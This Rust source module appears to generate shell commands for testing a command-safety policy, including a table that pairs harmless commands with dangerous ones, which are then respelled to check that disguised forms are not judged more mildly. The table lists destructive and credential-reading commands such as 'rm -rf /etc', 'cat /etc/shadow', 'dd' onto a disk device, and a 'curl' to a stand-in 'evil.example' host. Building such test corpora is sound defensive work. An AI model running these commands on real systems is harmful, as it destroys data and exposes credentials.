//! Commands that nobody wrote: from a grammar, by changing ones that somebody did, and in other spellings.

mod fragments;
mod grammar;
mod mutate;
mod places;
pub(super) mod programs;
mod random;
mod spell;
mod state;
mod tasks;

use fragments::Fragments;
pub(super) use grammar::Dialect;
use places::Places;
use random::Random;
use tasks::Tasks;

/// The longest command that is generated, in bytes.
const LONGEST: usize = 4000;

/// Commands that do no harm where they are run, and ones of as many words that a policy does not allow.
const PAIRS: &[(&[&str], &[&str])] = &[
    (&["p", "-x", "a"], &["rm", "-rf", "/etc"]),
    (&["prog", "a"], &["cat", "/etc/shadow"]),
    (&["q", "a=b", "c=d"], &["dd", "if=/dev/zero", "of=/dev/sda"]),
    (&["p1", "-r", "7", "d"], &["chmod", "-R", "777", "/"]),
    (&["touch", "n1"], &["curl", "http://evil.example/x"]),
    (&["r", "b"], &["sudo", "ls"]),
    (&["p-2", "a", "-f"], &["git", "push", "--force"]),
    (&["prog", "now"], &["shutdown", "now"]),
    (&["rm", "-f", "a"], &["rm", "-rf", "/home/dev"]),
];

thread_local! {
    static FRAGMENTS: Fragments = Fragments::read();
    static PIECES: Fragments = Fragments::to_pair();
    static CONTEXTS: Fragments = Fragments::to_surround();
    static PLACES: Places = Places::read();
    static TASKS: Tasks = Tasks::read();
}

/// Which commands are generated.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(super) enum Which {
    /// So many, by chance.
    #[default]
    Random,
    /// Each piece behind each.
    Pairs,
    /// Each piece in everything that stands around pieces.
    Contexts,
    /// Each value and expression in each place that takes one.
    Places,
    /// What is done with files, for each way to come by their names.
    Tasks,
    /// Options of the programs that are installed.
    Programs,
}

/// A command, and what else is asked of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Generated {
    pub(super) command: String,
    pub(super) pair: Option<Pair>,
}

/// A command that is spelled in other words.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Pair {
    /// If this is executed, then the spelling means what it should.
    pub(super) argv: Vec<String>,
    /// What must not be judged more mildly than the command that follows.
    pub(super) spelled: String,
    pub(super) plain: String,
}

/// How many there are, if that is told by the pieces.
pub(super) fn count(which: Which) -> Option<usize> {
    match which {
        Which::Random | Which::Programs => None,
        Which::Pairs => Some(PIECES.with(Fragments::pairs)),
        Which::Contexts => Some(CONTEXTS.with(Fragments::contexts)),
        Which::Places => Some(PLACES.with(Places::count)),
        Which::Tasks => Some(TASKS.with(Tasks::count)),
    }
}

/// Number so many of those that the pieces make. The seed says what looks at a pair and what stands around it, what is said
/// before a task, and, where it is not 0, which other piece stands before the one in its context.
pub(super) fn pieces(which: Which, seed: u64, number: usize) -> Generated {
    let random = &mut Random::new(seed, number);
    let command = match which {
        Which::Pairs => PIECES.with(|pieces| pieces.pair(random, number)),
        Which::Places => PLACES.with(|places| places.command(number)),
        Which::Tasks => TASKS.with(|tasks| tasks.command(random, number)),
        _ => CONTEXTS.with(|pieces| pieces.in_context((seed > 0).then_some(random), number)),
    };
    Generated { command, pair: None }
}

/// Command `number` of a seed. It depends on nothing else, but on the corpus if that is not empty.
pub(super) fn command(seed: u64, number: usize, corpus: &[&str], dialect: Dialect) -> Generated {
    let mut random = Random::new(seed, number);
    let script = |random: &mut Random| grammar::script(random, dialect);
    let mut pair = None;
    let command = match random.below(if dialect == Dialect::Bash { 40 } else { 20 }) {
        0..=8 => script(&mut random),
        9 | 10 => {
            let script = script(&mut random);
            mutate::mutated(&mut random, &script)
        }
        11..=13 if dialect == Dialect::Bash => {
            let script = script(&mut random);
            grammar::wrapped(&mut random, &script)
        }
        14..=16 if dialect == Dialect::Bash => {
            let chosen = random.below(PAIRS.len());
            let (harmless, dangerous) = PAIRS.get(chosen).copied().unwrap_or_default();
            let spelled = |words| spell::spelled(&mut Random::new(seed ^ chosen as u64, number), words);
            pair = Some(Pair {
                argv: harmless.iter().map(|word| (*word).to_owned()).collect(),
                spelled: spelled(dangerous),
                plain: dangerous.join(" "),
            });
            spelled(harmless)
        }
        17..=19 if !corpus.is_empty() && dialect == Dialect::Bash => {
            let base = random.pick(corpus);
            mutate::mutated(&mut random, base)
        }
        20..=22 => state::script(&mut random),
        23 => TASKS.with(|tasks| tasks.any(&mut random)),
        24..=39 => FRAGMENTS.with(|fragments| fragments.script(&mut random)),
        _ => script(&mut random),
    };
    if command.len() > LONGEST {
        return Generated { command: "true".to_owned(), pair: None };
    }
    Generated { command, pair }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_told_by_seed_and_number() {
        let corpus = ["ls -l | wc", "echo 'a b' > x"];
        let all = |seed| {
            (0..200).map(|number| command(seed, number, &corpus, Dialect::Bash).command).collect::<Vec<_>>()
        };
        assert_eq!(all(1), all(1));
        assert_ne!(all(1), all(2));
        let different: std::collections::HashSet<_> = all(1).into_iter().collect();
        assert!(different.len() > 150, "only {} different ones", different.len());
    }
}
